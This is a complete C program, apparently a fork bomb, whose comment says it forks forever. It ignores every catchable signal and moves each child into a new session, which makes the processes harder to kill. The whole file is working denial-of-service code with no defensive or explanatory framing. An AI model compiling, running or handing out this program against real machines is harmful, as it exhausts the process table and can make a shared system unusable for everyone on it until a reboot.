/* Forks for ever in every process, each in a session of its own, and ignores what can be ignored. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    for (int number = 1; number < NSIG; number++)
        signal(number, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
